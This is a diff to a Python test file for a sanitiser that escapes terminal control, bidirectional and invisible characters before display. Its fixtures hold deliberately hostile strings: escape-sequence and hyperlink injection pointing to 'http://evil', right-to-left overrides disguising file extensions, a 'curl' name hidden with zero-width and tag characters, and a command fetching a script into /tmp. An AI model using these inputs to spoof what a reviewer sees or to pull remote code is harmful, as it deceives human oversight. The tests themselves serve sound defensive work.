@@ -35,7 +35,7 @@ OSC8 = "\x1b]8;;http://evil\x07click\x1b]8;;\x07"
 #: came before with something harmless, 8-bit CSI, DEL, a right-to-left override, a newline, markup and an emoji code
 ARGS = f"-c 'id'\x1b[2J{OSC8}\x08\x08\rls -l\x9b31m\x7f\u202eexe.jpg\nFORGED LINE [bold red]B[/] :skull:"
 POD = "crawler-\x1b[31mred\x1b[0m\u2066[bold]p[/bold]"  # still matches --pod crawler
-CWD = "/app\x1b[2J\r\u202e"
+CWD = "/app\x1b[2J\r\u202e/cu\u200brl\U000e0041"  # a zero-width space, a tag character: printed as nothing
 TMP_BINARY = f"/tmp/{OSC8}\u202egpj.sh"  # exec-from-tmp quotes the binary
 TMP_ARGS = "x\x1b[1A\x1b[2K\x85next"
 CURL_ARGS = "-sk https://dl.example.net/k.sh -o /tmp/.k\x1b]0;pwned title\x07"  # download-to-tmp quotes it
@@ -185,6 +185,9 @@ def test_visible_escapes_what_a_terminal_obeys_and_nothing_else() -> None:
     assert visible(bidi) == "".join(f"\\u{ord(c):04x}" for c in bidi)
     assert visible("\u2028\u2029") == "\\u2028\\u2029"
     assert visible("bad \ud800 half") == "bad \\ud800 half"  # a lone surrogate cannot even be printed raw
+    invisible = "\u180e\u200b\u200c\u200d\u2060\u2064\ufeff\ufff9"  # each prints as nothing at all
+    assert visible("\xad" + invisible) == "\\xad" + "".join(f"\\u{ord(c):04x}" for c in invisible)
+    assert visible("/usr/bin/cu\U000e0072rl") == "/usr/bin/cu\\U000e0072rl"  # a tag character, past U+FFFF
     assert visible("two\nlines\r\n", newlines=True) == "two\nlines\\r\n"
     assert has_unsafe("x\ny") and not has_unsafe("x\ny", newlines=True)
     for s in (ARGS, POD, CWD, TMP_BINARY, SNI):
